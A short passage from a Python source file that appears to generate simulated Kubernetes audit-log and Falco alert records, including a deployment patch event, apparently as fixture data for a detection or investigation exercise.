                  source="10.244.1.7", groups=("system:serviceaccounts",))
    c.request(start + 300, dev, "patch", "deployments storefront/web", group="apps",
              source=office)
    c.files["audit.log"] = lines(c.records())
    c.files["falco.jsonl"] = lines(c.alerts())
    c.start, c.dev, c.token = start, dev, token
    return c
